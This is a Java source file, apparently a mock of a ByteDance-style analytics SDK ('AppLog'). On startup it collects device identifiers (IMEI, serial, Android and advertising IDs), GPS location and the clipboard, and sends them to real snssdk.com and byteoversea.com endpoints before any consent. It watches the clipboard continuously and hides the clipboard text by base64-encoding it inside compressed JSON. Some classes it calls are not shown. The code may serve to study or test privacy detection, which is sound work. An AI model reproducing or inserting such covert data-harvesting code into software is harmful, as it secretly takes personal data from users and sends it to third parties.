package com.bytedance.sdk;

import android.content.ClipboardManager;
import android.content.Context;
import android.util.Base64;
import android.util.Log;
import java.nio.charset.StandardCharsets;
import org.json.JSONException;
import org.json.JSONObject;

/**
 * A ByteDance-style analytics SDK (modelled on AppLog): on init it collects device identifiers, the clipboard
 * and the location, and sends three beacons before the app has asked for any consent.
 */
public final class AppLog {
    static final String DEVICE_REGISTER = "https://log.snssdk.com/service/2/device_register/";
    static final String MONITOR = "https://mon.snssdk.com/monitor/collect/";
    static final String ALERT_CHECK = "https://log.byteoversea.com/service/2/app_alert_check/";
    static final String TAG = "AppLog";

    private AppLog() {}

    public static final class Config {
        final int aid;
        final String channel;

        public Config(int aid, String channel) {
            this.aid = aid;
            this.channel = channel;
        }
    }

    public static void init(Context context, Config config) {
        DeviceInfo device = DeviceInfo.collect(context);
        watchClipboard(context);
        try {
            registerDevice(context, config, device);
            SecureReporter.register(device, EnvironmentProbe.collect(context));
        } catch (JSONException e) {
            Log.e(TAG, "device_register: " + e);
        }
        reportSession(device);
        checkAlerts(config, device);
        CaptureProbe.start(context);
        InAppBrowser.open(context, InAppBrowser.OFFER);
    }

    /** JSON, gzip-compressed; the clipboard travels base64-encoded inside it. */
    private static void registerDevice(Context context, Config config, DeviceInfo device) throws JSONException {
        JSONObject header = new JSONObject()
                .put("aid", config.aid)
                .put("channel", config.channel)
                .put("package", context.getPackageName())
                .put("device_model", device.model)
                .put("openudid", device.androidId)
                .put("google_aid", device.advertisingId)
                .put("udid", device.imei)
                .put("serial_number", device.serial)
                .put("clipboard", Base64.encodeToString(
                        device.clipboardText.getBytes(StandardCharsets.UTF_8), Base64.NO_WRAP));
        JSONObject body = new JSONObject().put("magic_tag", "ss_app_log").put("header", header);
        LogSender.postGzipJson(DEVICE_REGISTER + "?aid=" + config.aid + "&device_platform=android", body.toString());
    }

    /** Protobuf: the location fix with the identifiers it belongs to. */
    private static void reportSession(DeviceInfo device) {
        ProtoWriter session = new ProtoWriter()
                .string(1, device.androidId)
                .fixed64Double(2, device.latitude)
                .fixed64Double(3, device.longitude)
                .varint(4, Math.round(device.accuracyMeters))
                .string(5, device.advertisingId)
                .string(6, device.locationProvider);
        LogSender.post(MONITOR, "application/x-protobuf", session.toByteArray(), false);
    }

    /** URL query: the Android ID as an MD5 hash, which is no anonymisation (2^64 IDs are enumerable). */
    private static void checkAlerts(Config config, DeviceInfo device) {
        LogSender.get(ALERT_CHECK + "?aid=" + config.aid + "&os=android&device_id=" + LogSender.md5Hex(device.androidId));
    }

    /** Keeps reading the clipboard whenever it changes, for the lifetime of the process. */
    private static void watchClipboard(Context context) {
        final ClipboardManager clipboard = (ClipboardManager) context.getSystemService(Context.CLIPBOARD_SERVICE);
        clipboard.addPrimaryClipChangedListener(new ClipboardManager.OnPrimaryClipChangedListener() {
            @Override
            public void onPrimaryClipChanged() {
                Log.d(TAG, "clip changed: " + clipboard.getText());
            }
        });
    }
}
